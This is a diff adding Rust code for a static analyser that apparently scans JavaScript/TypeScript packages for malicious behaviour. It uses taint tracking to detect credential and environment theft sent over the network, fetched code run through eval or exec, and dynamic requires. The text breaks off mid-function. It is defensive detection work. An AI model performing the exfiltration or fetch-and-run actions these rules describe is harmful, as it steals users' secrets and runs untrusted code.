@@ -1,0 +1,1323 @@
+//! The rules over the AST: parses a source with oxc (TypeScript/JSX by
+//! extension), resolves scopes, symbols and references with oxc_semantic, and
+//! walks the program to find what each expression may refer to ([`Val`]) and
+//! which data may reach it (taint), reporting findings where a dangerous value
+//! is obtained, a module is loaded, or a behaviour chain closes.
+//!
+//! Alias resolution: a variable, parameter or destructured name bound to a
+//! tracked value (by declaration, assignment, default value, an
+//! immediately-invoked function or a call of a function declared in the same
+//! file) carries that value to every reference the semantic model resolves to
+//! it. Findings are reported where a value is *obtained* (a global name, a
+//! member access, a destructured key, a module specifier), not again at each
+//! use of an alias. The walk is repeated until the bindings stop changing
+//! (bounded), so uses before definitions are followed too.
+//!
+//! Taint (a module/function-granularity data-flow approximation): an expression
+//! carries the union of what flows into it (its sub-expressions and the
+//! variables it reads); function bodies do not leak into the expression that
+//! contains the function, a function's return taint flows to its calls, and
+//! callbacks of network calls receive remote data in their parameters.
+
+use super::guard;
+use super::rules::{classify_module, ModuleClass, RuleId};
+use super::values::{builtin_of, global, is_credential_path, member, Api, Builtin, Val};
+use crate::capability::{Capability, CapabilitySet};
+use crate::hostcall::tool_capability;
+use oxc_allocator::Allocator;
+use oxc_ast::ast::*;
+use oxc_ast_visit::{walk, Visit};
+use oxc_parser::{ParseOptions, Parser};
+use oxc_semantic::{Scoping, SemanticBuilder, SymbolId};
+use oxc_span::{GetSpan, SourceType, Span};
+use oxc_syntax::operator::{AssignmentOperator, BinaryOperator, UnaryOperator};
+use oxc_syntax::scope::ScopeFlags;
+use std::collections::{HashMap, HashSet};
+
+/// Longest folded constant string kept.
+const MAX_FOLD: usize = 4096;
+/// Binding passes before the reporting pass.
+const MAX_PASSES: usize = 6;
+
+/// Taint bits.
+const SECRET: u8 = 1; // the whole environment, credential files
+const IDENTITY: u8 = 2; // host identity (os.hostname, userInfo, networkInterfaces)
+const REMOTE: u8 = 4; // data received from the network
+const ENVVAR: u8 = 8; // one named environment variable
+const CRED: u8 = 16; // a string naming a credential file
+const HOME: u8 = 32; // a path outside the package (homedir, tmpdir, absolute)
+
+/// A finding before positions are computed: the rule and the byte span that
+/// names the dangerous thing.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Hit {
+    pub rule: RuleId,
+    pub start: u32,
+    pub end: u32,
+}
+
+/// An effect that matters when the code runs at install time.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Effect {
+    Network,
+    Exec,
+}
+
+/// A module specifier the source loads (constant ones only).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Specifier {
+    pub spec: String,
+    pub start: u32,
+}
+
+/// The result of analysing one source.
+#[derive(Debug, Clone, Default)]
+pub struct Analysis {
+    pub hits: Vec<Hit>,
+    pub capabilities: CapabilitySet,
+    pub specifiers: Vec<Specifier>,
+    pub effects: Vec<(Effect, Hit)>,
+    /// Parser diagnostics (the file did not parse).
+    pub parse_errors: Vec<(String, u32)>,
+}
+
+/// The oxc source type for a file name: TypeScript by extension, JSX in .jsx
+/// and .tsx (and .js, where it cannot change the meaning of valid code).
+pub fn source_type_for(label: &str) -> SourceType {
+    let ext = std::path::Path::new(label)
+        .extension()
+        .and_then(|e| e.to_str())
+        .map(|e| e.to_ascii_lowercase());
+    match ext.as_deref() {
+        Some(e @ ("ts" | "mts" | "cts" | "tsx" | "mjs" | "cjs" | "jsx")) => {
+            SourceType::from_extension(e).unwrap_or_else(|_| SourceType::unambiguous())
+        }
+        _ => SourceType::unambiguous().with_jsx(true),
+    }
+}
+
+/// Parse and analyse `src` as the file `label`.
+pub fn analyze(label: &str, src: &str) -> Analysis {
+    let allocator = Allocator::default();
+    let st = source_type_for(label);
+    let opts = ParseOptions {
+        allow_return_outside_function: true,
+        ..ParseOptions::default()
+    };
+    let mut ret = Parser::new(&allocator, src, st).with_options(opts).parse();
+    let mut alt = None;
+    if !ret.diagnostics.is_empty() && st.is_javascript() && !st.is_module() {
+        // A CommonJS script may use sloppy-mode syntax a module forbids.
+        let r2 = Parser::new(&allocator, src, SourceType::cjs())
+            .with_options(opts)
+            .parse();
+        if r2.diagnostics.is_empty() {
+            alt = Some(r2);
+        }
+    }
+    if let Some(r2) = alt {
+        ret = r2;
+    }
+    let mut out = Analysis::default();
+    for d in ret.diagnostics.errors() {
+        let at = d.labels.first().map_or(0, |l| l.offset());
+        out.parse_errors.push((d.message.to_string(), at));
+    }
+    if ret.panicked {
+        return out;
+    }
+    let program = allocator.alloc(ret.program);
+    let sem = SemanticBuilder::new().build(program);
+    let scoping = sem.semantic.scoping();
+    let mut w = Walker::new(src, scoping);
+    for _ in 0..MAX_PASSES {
+        w.begin_pass(false);
+        w.visit_program(program);
+        if !w.changed {
+            break;
+        }
+    }
+    w.begin_pass(true);
+    w.visit_program(program);
+    out.hits = w.hits;
+    out.capabilities = w.caps;
+    out.specifiers = w.specs;
+    out.effects = w.effects;
+    out
+}
+
+/// Byte offsets where whitespace or a comment can be inserted without changing
+/// the tokens: starts of identifier references and of statements (fuzzing).
+pub fn reference_starts(label: &str, src: &str) -> Vec<usize> {
+    struct Starts(Vec<usize>);
+    impl<'a> Visit<'a> for Starts {
+        fn visit_identifier_reference(&mut self, it: &IdentifierReference<'a>) {
+            self.0.push(it.span.start as usize);
+        }
+        fn visit_statement(&mut self, it: &Statement<'a>) {
+            self.0.push(it.span().start as usize);
+            walk::walk_statement(self, it);
+        }
+    }
+    if guard::nesting_estimate(src.as_bytes()) > 512 {
+        return Vec::new();
+    }
+    let allocator = Allocator::default();
+    let ret = Parser::new(&allocator, src, source_type_for(label)).parse();
+    if !ret.diagnostics.is_empty() {
+        return Vec::new();
+    }
+    let mut s = Starts(Vec::new());
+    s.visit_program(&ret.program);
+    s.0.sort_unstable();
+    s.0.dedup();
+    s.0
+}
+
+/// A binding pattern, owned (so function parameters can be bound at call sites).
+#[derive(Debug, Clone)]
+enum Pat {
+    Id(SymbolId),
+    Obj(Vec<(Option<String>, Span, Pat)>, Option<Box<Pat>>),
+    Arr(Vec<Pat>),
+    Ignore,
+}
+
+fn pat_of(p: &BindingPattern<'_>) -> Pat {
+    match p {
+        BindingPattern::BindingIdentifier(id) => id.symbol_id.get().map_or(Pat::Ignore, Pat::Id),
+        BindingPattern::ObjectPattern(o) => Pat::Obj(
+            o.properties
+                .iter()
+                .map(|bp| (key_name(&bp.key), bp.key.span(), pat_of(&bp.value)))
+                .collect(),
+            o.rest.as_ref().map(|r| Box::new(pat_of(&r.argument))),
+        ),
+        BindingPattern::ArrayPattern(a) => {
+            let mut v: Vec<Pat> = a.elements.iter().flatten().map(pat_of).collect();
+            if let Some(r) = &a.rest {
+                v.push(pat_of(&r.argument));
+            }
+            Pat::Arr(v)
+        }
+        BindingPattern::AssignmentPattern(a) => pat_of(&a.left),
+    }
+}
+
+fn params_of(f: &FormalParameters<'_>) -> Vec<Pat> {
+    let mut v: Vec<Pat> = f.items.iter().map(|p| pat_of(&p.pattern)).collect();
+    if let Some(r) = &f.rest {
+        v.push(pat_of(&r.rest.argument));
+    }
+    v
+}
+
+/// The static name of a property key (identifier, string, or folded constant).
+fn key_name(k: &PropertyKey<'_>) -> Option<String> {
+    match k {
+        PropertyKey::StaticIdentifier(id) => Some(id.name.as_str().to_string()),
+        PropertyKey::PrivateIdentifier(_) => None,
+        _ => k.as_expression().and_then(|e| fold_plain(e, 0)),
+    }
+}
+
+/// Fold a constant string expression without symbol knowledge.
+fn fold_plain(e: &Expression<'_>, depth: u32) -> Option<String> {
+    fold_with(e, depth, &|_| None)
+}
+
+fn fold_with(
+    e: &Expression<'_>,
+    depth: u32,
+    ident: &dyn Fn(&IdentifierReference<'_>) -> Option<String>,
+) -> Option<String> {
+    if depth > 16 {
+        return None;
+    }
+    let s = match e.get_inner_expression() {
+        Expression::StringLiteral(s) => s.value.as_str().to_string(),
+        Expression::NumericLiteral(n) => n.value.to_string(),
+        Expression::TemplateLiteral(t) => {
+            let mut out = String::new();
+            for (i, q) in t.quasis.iter().enumerate() {
+                out.push_str(q.value.cooked.as_ref()?.as_str());
+                if let Some(x) = t.expressions.get(i) {
+                    out.push_str(&fold_with(x, depth + 1, ident)?);
+                }
+                if out.len() > MAX_FOLD {
+                    return None;
+                }
+            }
+            out
+        }
+        Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
+            let mut l = fold_with(&b.left, depth + 1, ident)?;
+            l.push_str(&fold_with(&b.right, depth + 1, ident)?);
+            l
+        }
+        Expression::Identifier(id) => ident(id)?,
+        _ => return None,
+    };
+    (s.len() <= MAX_FOLD).then_some(s)
+}
+
+/// Could this expression evaluate to a string of code? (string and template
+/// literals, concatenations with a string, String(...)/toString results.)
+fn is_stringish(e: &Expression<'_>) -> bool {
+    match e.get_inner_expression() {
+        Expression::StringLiteral(_) | Expression::TemplateLiteral(_) => true,
+        Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => {
+            is_stringish(&b.left) || is_stringish(&b.right)
+        }
+        _ => false,
+    }
+}
+
+fn is_function_expr(e: &Expression<'_>) -> bool {
+    matches!(
+        e.get_inner_expression(),
+        Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_)
+    )
+}
+
+fn function_params<'b, 'a>(e: &'b Expression<'a>) -> Option<&'b FormalParameters<'a>> {
+    match e.get_inner_expression() {
+        Expression::FunctionExpression(f) => Some(&f.params),
+        Expression::ArrowFunctionExpression(f) => Some(&f.params),
+        _ => None,
+    }
+}
+
+struct Walker<'s> {
+    src: &'s str,
+    scoping: &'s Scoping,
+    sym_val: HashMap<SymbolId, Val>,
+    sym_taint: HashMap<SymbolId, u8>,
+    sym_str: HashMap<SymbolId, String>,
+    fn_params: HashMap<SymbolId, Vec<Pat>>,
+    fn_ret: HashMap<SymbolId, u8>,
+    fn_stack: Vec<Option<SymbolId>>,
+    taint: Vec<u8>,
+    /// Span starts of `require` references that are callees, member objects or aliased.
+    exempt_require: HashSet<u32>,
+    /// Span starts of `Function` references used only for identity or its prototype.
+    exempt_function: HashSet<u32>,
+    /// Span starts of expressions whose taint is replaced by their parent's.
+    exempt_taint: HashSet<u32>,
+    changed: bool,
+    emit: bool,
+    in_const: bool,
+    hits: Vec<Hit>,
+    caps: CapabilitySet,
+    specs: Vec<Specifier>,
+    effects: Vec<(Effect, Hit)>,
+}
+
+impl<'s> Walker<'s> {
+    fn new(src: &'s str, scoping: &'s Scoping) -> Self {
+        Walker {
+            src,
+            scoping,
+            sym_val: HashMap::new(),
+            sym_taint: HashMap::new(),
+            sym_str: HashMap::new(),
+            fn_params: HashMap::new(),
+            fn_ret: HashMap::new(),
+            fn_stack: Vec::new(),
+            taint: vec![0],
+            exempt_require: HashSet::new(),
+            exempt_function: HashSet::new(),
+            exempt_taint: HashSet::new(),
+            changed: false,
+            emit: false,
+            in_const: false,
+            hits: Vec::new(),
+            caps: CapabilitySet::EMPTY,
+            specs: Vec::new(),
+            effects: Vec::new(),
+        }
+    }
+
+    fn begin_pass(&mut self, emit: bool) {
+        self.changed = false;
+        self.emit = emit;
+        self.taint = vec![0];
+        self.fn_stack.clear();
+        self.exempt_require.clear();
+        self.exempt_function.clear();
+        self.exempt_taint.clear();
+        self.hits.clear();
+        self.specs.clear();
+        self.effects.clear();
+        self.caps = CapabilitySet::EMPTY;
+    }
+
+    fn hit(&mut self, rule: RuleId, span: Span) {
+        if !self.emit {
+            return;
+        }
+        self.hits.push(Hit {
+            rule,
+            start: span.start,
+            end: span.end,
+        });
+        if let Some(c) = rule.capability() {
+            self.caps.insert(c);
+        }
+    }
+
+    fn effect(&mut self, e: Effect, rule: RuleId, span: Span) {
+        if self.emit {
+            self.effects.push((
+                e,
+                Hit {
+                    rule,
+                    start: span.start,
+                    end: span.end,
+                },
+            ));
+        }
+    }
+
+    fn src_text(&self, span: Span) -> String {
+        self.src
+            .get(span.start as usize..span.end as usize)
+            .unwrap_or("")
+            .to_string()
+    }
+
+    fn add_taint(&mut self, t: u8) {
+        if let Some(top) = self.taint.last_mut() {
+            *top |= t;
+        }
+    }
+
+    /// Run `f` with a fresh taint accumulator; the result is also added to the parent's.
+    fn taint_of(&mut self, f: impl FnOnce(&mut Self)) -> u8 {
+        self.taint.push(0);
+        f(self);
+        let t = self.taint.pop().unwrap_or(0);
+        self.add_taint(t);
+        t
+    }
+
+    /// Run `f` with a fresh accumulator that is dropped (function bodies).
+    fn isolated(&mut self, f: impl FnOnce(&mut Self)) {
+        self.taint.push(0);
+        f(self);
+        self.taint.pop();
+    }
+
+    fn symbol_of(&self, id: &IdentifierReference<'_>) -> Option<SymbolId> {
+        let r = id.reference_id.get()?;
+        self.scoping.get_reference(r).symbol_id()
+    }
+
+    fn set_val(&mut self, sym: SymbolId, v: Val) {
+        if let std::collections::hash_map::Entry::Vacant(e) = self.sym_val.entry(sym) {
+            e.insert(v);
+            self.changed = true;
+        }
+    }
+
+    fn set_taint(&mut self, sym: SymbolId, t: u8) {
+        if t == 0 {
+            return;
+        }
+        let e = self.sym_taint.entry(sym).or_insert(0);
+        if *e | t != *e {
+            *e |= t;
+            self.changed = true;
+        }
+    }
+
+    fn fold(&self, e: &Expression<'_>) -> Option<String> {
+        fold_with(e, 0, &|id| {
+            self.symbol_of(id).and_then(|s| self.sym_str.get(&s).cloned())
+        })
+    }
+
+    /// The abstract value of an expression (pure).
+    fn val(&self, e: &Expression<'_>) -> Option<Val> {
+        self.val_d(e, 0)
+    }
+
+    fn val_d(&self, e: &Expression<'_>, d: u32) -> Option<Val> {
+        if d > 64 {
+            return None;
+        }
+        match e {
+            Expression::Identifier(id) => match self.symbol_of(id) {
+                Some(s) => self
+                    .sym_val
+                    .get(&s)
+                    .copied()
+                    .or_else(|| (id.name.as_str() == "pi").then_some(Val::Pi)),
+                None => global(id.name.as_str()),
+            },
+            Expression::StaticMemberExpression(m) => member(self.val_d(&m.object, d + 1), m.property.name.as_str()),
+            Expression::ComputedMemberExpression(m) => {
+                let k = self.fold(&m.expression)?;
+                member(self.val_d(&m.object, d + 1), &k)
+            }
+            Expression::ParenthesizedExpression(p) => self.val_d(&p.expression, d + 1),
+            Expression::TSAsExpression(x) => self.val_d(&x.expression, d + 1),
+            Expression::TSSatisfiesExpression(x) => self.val_d(&x.expression, d + 1),
+            Expression::TSNonNullExpression(x) => self.val_d(&x.expression, d + 1),
+            Expression::TSTypeAssertion(x) => self.val_d(&x.expression, d + 1),
+            Expression::TSInstantiationExpression(x) => self.val_d(&x.expression, d + 1),
+            Expression::AwaitExpression(x) => self.val_d(&x.argument, d + 1),
+            Expression::SequenceExpression(s) => s.expressions.last().and_then(|x| self.val_d(x, d + 1)),
+            Expression::AssignmentExpression(a) => self.val_d(&a.right, d + 1),
+            Expression::ConditionalExpression(c) => self
+                .val_d(&c.consequent, d + 1)
+                .or_else(|| self.val_d(&c.alternate, d + 1)),
+            Expression::LogicalExpression(l) => self.val_d(&l.left, d + 1).or_else(|| self.val_d(&l.right, d + 1)),
+            Expression::ChainExpression(c) => match &c.expression {
+                ChainElement::CallExpression(call) => self.call_val(call, d + 1),
+                ChainElement::TSNonNullExpression(x) => self.val_d(&x.expression, d + 1),
+                other => other.as_member_expression().and_then(|m| match m {
+                    MemberExpression::StaticMemberExpression(m) => {
+                        member(self.val_d(&m.object, d + 1), m.property.name.as_str())
+                    }
+                    MemberExpression::ComputedMemberExpression(m) => {
+                        let k = self.fold(&m.expression)?;
+                        member(self.val_d(&m.object, d + 1), &k)
+                    }
+                    MemberExpression::PrivateFieldExpression(_) => None,
+                }),
+            },
+            Expression::FunctionExpression(_)
+            | Expression::ArrowFunctionExpression(_)
+            | Expression::ClassExpression(_) => Some(Val::FnValue),
+            Expression::ArrayExpression(_)
+            | Expression::ObjectExpression(_)
+            | Expression::StringLiteral(_)
+            | Expression::TemplateLiteral(_)
+            | Expression::RegExpLiteral(_) => Some(Val::Lit),
+            Expression::CallExpression(c) => self.call_val(c, d + 1),
+            Expression::ImportExpression(i) => self.fold(&i.source).map(|s| Val::Mod(builtin_of(&s))),
+            _ => None,
+        }
+    }
+
+    fn call_val(&self, c: &CallExpression<'_>, d: u32) -> Option<Val> {
+        let callee = self.val_d(&c.callee, d + 1)?;
+        let arg = |i: usize| c.arguments.get(i).and_then(|a| a.as_expression());
+        match callee {
+            Val::Require => {
+                let spec = self.fold(arg(0)?)?;
+                Some(Val::Mod(builtin_of(&spec)))
+            }
+            Val::RequireFactory => Some(Val::Require),
+            Val::ReflectGet => {
+                let k = self.fold(arg(1)?)?;
+                member(self.val_d(arg(0)?, d + 1), &k)
+            }
+            Val::Api(Builtin::Http, Api::NetSend) => Some(Val::NetHandle),
+            _ => None,
+        }
+    }
+
+    /// Bind a pattern to a value and taint; destructured keys of a tracked
+    /// value are findings where they obtain something dangerous.
+    fn bind(&mut self, p: &Pat, v: Option<Val>, t: u8) {
+        match p {
+            Pat::Id(s) => {
+                if let Some(v) = v {
+                    self.set_val(*s, v);
+                }
+                self.set_taint(*s, t);
+            }
+            Pat::Obj(props, rest) => {
+                for (key, span, sub) in props {
+                    let (sv, st) = match key {
+                        Some(k) => {
+                            let sv = member(v, k);
+                            if v.is_some() {
+                                self.obtained(v, sv, *span);
+                            }
+                            let st = if v == Some(Val::ProcessEnv) { ENVVAR } else { t };
+                            (sv, st)
+                        }
+                        None => {
+                            if v.is_some_and(Val::is_powerful_object) {
+                                self.hit(RuleId::DynamicAccess, *span);
+                            }
+                            (None, t)
+                        }
+                    };
+                    self.bind(sub, sv, st);
+                }
+                if let Some(r) = rest {
+                    let rt = if v == Some(Val::ProcessEnv) { SECRET } else { t };
+                    self.bind(r, v, rt);
+                }
+            }
+            Pat::Arr(items) => {
+                for it in items {
+                    self.bind(it, None, t);
+                }
+            }
+            Pat::Ignore => {}
+        }
+    }
+
+    /// A member access produced `got` from `from`: report what it obtains.
+    fn obtained(&mut self, from: Option<Val>, got: Option<Val>, span: Span) {
+        let Some(g) = got else { return };
+        if from == Some(g) {
+            return;
+        }
+        match g {
+            Val::Eval => self.hit(RuleId::EvalCall, span),
+            // Reached through `.constructor`: reported where it is called or
+            // escapes (`fn.constructor.name` is an ordinary idiom).
+            Val::Function if from.is_some_and(|f| f != Val::Global && f != Val::Reflect) => {}
+            Val::Function => self.hit(RuleId::FunctionConstructor, span),
+            Val::ProcessBinding => self.hit(RuleId::ProcessBinding, span),
+            Val::ProcessDlopen => self.hit(RuleId::ProcessDlopen, span),
+            Val::ProcessEnv => {
+                self.hit(RuleId::ProcessEnv, span);
+                self.caps.insert(Capability::Env);
+            }
+            Val::PiCap(c) if self.emit => self.caps.insert(c),
+            _ => {}
+        }
+    }
+
+    /// A module specifier is loaded at `span`.
+    fn module(&mut self, spec: &str, span: Span) {
+        if self.emit {
+            self.specs.push(Specifier {
+                spec: spec.to_string(),
+                start: span.start,
+            });
+        }
+        let lower = spec.to_ascii_lowercase();
+        if lower.starts_with("data:") {
+            self.hit(RuleId::EvalCall, span);
+            return;
+        }
+        if lower.starts_with("http:") || lower.starts_with("https:") {
+            self.hit(RuleId::FetchAndRun, span);
+            return;
+        }
+        if lower.ends_with(".node") && (spec.starts_with('.') || spec.starts_with('/')) {
+            self.hit(RuleId::NativeAddon, span);
+            return;
+        }
+        match classify_module(spec) {
+            ModuleClass::Forbidden => {
+                self.hit(RuleId::ForbiddenBuiltin, span);
+                if builtin_of(spec) == Builtin::Net {
+                    self.effect(Effect::Network, RuleId::ForbiddenBuiltin, span);
+                }
+            }
+            ModuleClass::Network => {
+                self.hit(RuleId::NetworkBuiltin, span);
+                self.effect(Effect::Network, RuleId::NetworkBuiltin, span);
+            }
+            ModuleClass::ChildProcess => {
+                self.hit(RuleId::ChildProcess, span);
+                self.effect(Effect::Exec, RuleId::ChildProcess, span);
+            }
+            ModuleClass::Os => self.hit(RuleId::OsModule, span),
+            ModuleClass::Fs => {
+                if self.emit {
+                    self.caps.insert(Capability::Read);
+                    self.caps.insert(Capability::Write);
+                }
+            }
+            ModuleClass::Other => {
+                if builtin_of(spec) == Builtin::HttpClient {
+                    self.caps.insert(Capability::Http);
+                }
+            }
+        }
+    }
+
+    /// The span naming a callee (the property of a member callee).
+    fn callee_span(e: &Expression<'_>) -> Span {
+        match e.get_inner_expression() {
+            Expression::StaticMemberExpression(m) => m.property.span,
+            Expression::ComputedMemberExpression(m) => m.expression.span(),
+            other => other.span(),
+        }
+    }
+
+    /// Is this a `… .constructor` member (Function reached through the prototype chain)?
+    fn via_constructor(e: &Expression<'_>) -> bool {
+        match e.get_inner_expression() {
+            Expression::StaticMemberExpression(m) => m.property.name.as_str() == "constructor",
+            Expression::ComputedMemberExpression(m) => fold_plain(&m.expression, 0).as_deref() == Some("constructor"),
+            _ => false,
+        }
+    }
+
+    /// The root identifier of a member chain (`a` in `a.b[c].d`).
+    fn root_symbol(&self, e: &Expression<'_>) -> Option<SymbolId> {
+        let mut cur = e.get_inner_expression();
+        for _ in 0..64 {
+            match cur {
+                Expression::Identifier(id) => return self.symbol_of(id),
+                Expression::StaticMemberExpression(m) => cur = m.object.get_inner_expression(),
+                Expression::ComputedMemberExpression(m) => cur = m.object.get_inner_expression(),
+                _ => return None,
+            }
+        }
+        None
+    }
+
+    fn visit_args(&mut self, args: &[Argument<'_>]) -> Vec<u8> {
+        args.iter().map(|a| self.taint_of(|s| s.visit_argument(a))).collect()
+    }
+
+    /// The call/new expression core: `callee(args)`.
+    fn call(&mut self, callee: &Expression<'_>, args: &[Argument<'_>], is_new: bool) {
+        let cv = self.val(callee);
+        let inner = callee.get_inner_expression();
+        // `require(...)` and friends: the callee reference is not an escape.
+        self.exempt_require.insert(inner.span().start);
+        // Remote data reaches callbacks of network calls and of `.then/.on` on remote values.
+        let callee_taint = self.taint_of(|s| s.visit_expression(callee));
+        let net = matches!(
+            cv,
+            Some(Val::Fetch)
+                | Some(Val::Api(
+                    Builtin::Http | Builtin::Net | Builtin::HttpClient,
+                    Api::NetSend
+                ))
+        ) || cv == Some(Val::Mod(Builtin::HttpClient));
+        let remote_cb = net || callee_taint & REMOTE != 0;
+        // Parameters: immediately-invoked functions and functions declared in this file.
+        let params: Option<Vec<Pat>> = function_params(callee).map(params_of).or_else(|| match inner {
+            Expression::Identifier(id) => self.symbol_of(id).and_then(|s| self.fn_params.get(&s).cloned()),
+            _ => None,
+        });
+        if params.is_some() {
+            for a in args {
+                if let Some(e) = a.as_expression() {
+                    self.exempt_require.insert(e.get_inner_expression().span().start);
+                }
+            }
+        }
+        if remote_cb {
+            for a in args {
+                if let Some(ps) = a.as_expression().and_then(function_params) {
+                    for p in params_of(ps) {
+                        self.bind(&p, None, REMOTE);
+                    }
+                }
+            }
+        }
+        let arg_taints = self.visit_args(args);
+        for a in args {
+            if let Some(e) = a.as_expression() {
+                if Self::via_constructor(e) && self.val(e) == Some(Val::Function) {
+                    self.hit(RuleId::FunctionConstructor, Self::callee_span(e));
+                }
+            }
+        }
+        if let Some(ps) = &params {
+            for (i, p) in ps.iter().enumerate() {
+                let (v, t) = match args.get(i).and_then(|a| a.as_expression()) {
+                    Some(e) => (self.val(e), arg_taints[i]),
+                    None => (None, 0),
+                };
+                self.bind(p, v, t);
+            }
+        }
+        // Return taint of a local function.
+        if let Expression::Identifier(id) = inner {
+            if let Some(t) = self.symbol_of(id).and_then(|s| self.fn_ret.get(&s).copied()) {
+                self.add_taint(t);
+            }
+        }
+        let arg = |i: usize| args.get(i).and_then(|a| a.as_expression());
+        let all_taint = arg_taints.iter().fold(0u8, |a, b| a | b);
+        let cspan = Self::callee_span(callee);
+        let Some(cv) = cv else {
+            // `x.push(secret)`: the collection now holds the data.
+            if let Expression::StaticMemberExpression(m) = inner {
+                if matches!(
+                    m.property.name.as_str(),
+                    "push" | "unshift" | "set" | "append" | "concat" | "assign"
+                ) {
+                    if let Some(s) = self.root_symbol(&m.object) {
+                        self.set_taint(s, all_taint & !(CRED | HOME));
+                    }
+                }
+            }
+            return;
+        };
+        match cv {
+            Val::Require if !is_new => {
+                // `require.call(thisArg, spec)` shifts the arguments.
+                let via_call = matches!(inner, Expression::StaticMemberExpression(m) if matches!(m.property.name.as_str(), "call" | "apply"));
+                let spec_arg = if via_call { arg(1) } else { arg(0) };
+                match spec_arg {
+                    Some(e) => match self.fold(e) {
+                        Some(spec) => self.module(&spec, e.span()),
+                        None => {
+                            self.hit(RuleId::DynamicRequire, cspan);
+                            if all_taint & REMOTE != 0 {
+                                self.hit(RuleId::FetchAndRun, cspan);
+                            }
+                        }
+                    },
+                    None if via_call || !args.is_empty() => self.hit(RuleId::DynamicRequire, cspan),
+                    None => {}
+                }
+            }
+            Val::Ctor => {
+                // `new this.constructor(msg)` re-creates the class's own instance.
+                let on_this = matches!(inner, Expression::StaticMemberExpression(m) if matches!(m.object.get_inner_expression(), Expression::ThisExpression(_)));
+                if !on_this && arg(0).is_some_and(is_stringish) {
+                    self.hit(RuleId::FunctionConstructor, cspan);
+                }
+            }
+            Val::Timer => {
+                if arg(0).is_some_and(|e| !is_function_expr(e) && is_stringish(e)) {
+                    self.hit(RuleId::EvalCall, cspan);
+                }
+                if arg(0).is_some_and(|e| !is_function_expr(e)) && arg_taints.first().is_some_and(|t| t & REMOTE != 0) {
+                    self.hit(RuleId::FetchAndRun, cspan);
+                }
+            }
+            Val::Eval | Val::Function | Val::Api(Builtin::Forbidden, Api::Evaluate) => {
+                if cv == Val::Function && Self::via_constructor(inner) {
+                    self.hit(RuleId::FunctionConstructor, cspan);
+                }
+                if all_taint & REMOTE != 0 {
+                    self.hit(RuleId::FetchAndRun, cspan);
+                }
+            }
+            Val::ReflectGet => {
+                if let (Some(o), Some(k)) = (arg(0), arg(1)) {
+                    let ov = self.val(o);
+                    match self.fold(k) {
+                        Some(name) => {
+                            let got = member(ov, &name);
+                            self.obtained(ov, got, k.span());
+                        }
+                        None if ov.is_some_and(Val::is_powerful_object) => self.hit(RuleId::DynamicAccess, k.span()),
+                        None => {}
+                    }
+                }
+            }
+            Val::ReflectApply | Val::ReflectConstruct
+                if all_taint & REMOTE != 0
+                    && arg(0)
+                        .and_then(|e| self.val(e))
+                        .is_some_and(|v| matches!(v, Val::Eval | Val::Function)) =>
+            {
+                self.hit(RuleId::FetchAndRun, cspan);
+            }
+            Val::PiTool if self.emit => {
+                let cap = match arg(0).and_then(|e| self.fold(e)) {
+                    Some(name) => tool_capability(&name).ok(),
+                    None => Some(Capability::Tool),
+                };
+                if let Some(c) = cap {
+                    self.caps.insert(c);
+                }
+            }
+            Val::PiCap(c) if self.emit => {
+                self.caps.insert(c);
+            }
+            Val::Api(Builtin::Os, Api::OsIdentity) => self.add_taint(IDENTITY),
+            Val::Api(Builtin::Os, Api::OsHome) => self.add_taint(HOME),
+            Val::Api(Builtin::Fs, Api::FsRead) if arg_taints.first().is_some_and(|t| t & CRED != 0) => {
+                self.add_taint(SECRET);
+            }
+            Val::Api(Builtin::Fs, Api::FsWrite) => {
+                let outside = arg_taints.first().is_some_and(|t| t & HOME != 0)
+                    || arg(0)
+                        .and_then(|e| self.fold(e))
+                        .is_some_and(|p| p.starts_with('/') || p.starts_with('~'));
+                let data = arg_taints.iter().skip(1).fold(0u8, |a, b| a | b);
+                if outside && data & (SECRET | IDENTITY) != 0 {
+                    self.hit(RuleId::ExfiltrationChain, cspan);
+                }
+            }
+            Val::Api(Builtin::ChildProcess, Api::Exec) => {
+                self.effect(Effect::Exec, RuleId::ChildProcess, cspan);
+                // The command and its argument list, not the options (their `env` stays local):
+                // exec(cmd, opts), spawn/execFile/fork(file, args, opts).
+                let name = &self.src_text(cspan);
+                let with_args = name.starts_with("spawn") || name.starts_with("execFile") || name.starts_with("fork");
+                let data = args
+                    .iter()
+                    .zip(&arg_taints)
+                    .take(if with_args { 2 } else { 1 })
+                    .filter(|(a, _)| {
+                        !matches!(
+                            a.as_expression().map(|e| e.get_inner_expression()),
+                            Some(Expression::ObjectExpression(_))
+                        )
+                    })
+                    .fold(0u8, |acc, (_, t)| acc | t);
+                if data & (SECRET | IDENTITY) != 0 {
+                    self.hit(RuleId::ExfiltrationChain, cspan);
+                }
+                if data & REMOTE != 0 {
+                    self.hit(RuleId::FetchAndRun, cspan);
+                }
+            }
+            Val::Fetch
+            | Val::Mod(Builtin::HttpClient)
+            | Val::Api(Builtin::Http | Builtin::Net | Builtin::HttpClient | Builtin::Dns, Api::NetSend) => {
+                self.effect(Effect::Network, RuleId::NetworkBuiltin, cspan);
+                if self.emit {
+                    self.caps.insert(Capability::Http);
+                }
+                let dns = matches!(cv, Val::Api(Builtin::Dns, _));
+                let mask = if dns {
+                    SECRET | IDENTITY | ENVVAR
+                } else {
+                    SECRET | IDENTITY
+                };
+                if all_taint & mask != 0 {
+                    self.hit(RuleId::ExfiltrationChain, cspan);
+                }
+                if !dns {
+                    self.add_taint(REMOTE);
+                }
+            }
+            _ => {}
+        }
+    }
+}
+
+impl<'a> Visit<'a> for Walker<'_> {
+    fn visit_ts_type(&mut self, _it: &TSType<'a>) {}
+    fn visit_ts_type_annotation(&mut self, _it: &TSTypeAnnotation<'a>) {}
+    fn visit_ts_interface_declaration(&mut self, _it: &TSInterfaceDeclaration<'a>) {}
+    fn visit_ts_type_alias_declaration(&mut self, _it: &TSTypeAliasDeclaration<'a>) {}
+    fn visit_ts_type_parameter_instantiation(&mut self, _it: &TSTypeParameterInstantiation<'a>) {}
+    fn visit_ts_type_parameter_declaration(&mut self, _it: &TSTypeParameterDeclaration<'a>) {}
+
+    fn visit_identifier_reference(&mut self, it: &IdentifierReference<'a>) {
+        let sym = self.symbol_of(it);
+        match sym {
+            Some(s) => {
+                if !self.exempt_taint.contains(&it.span.start) {
+                    if let Some(t) = self.sym_taint.get(&s).copied() {
+                        self.add_taint(t);
+                    }
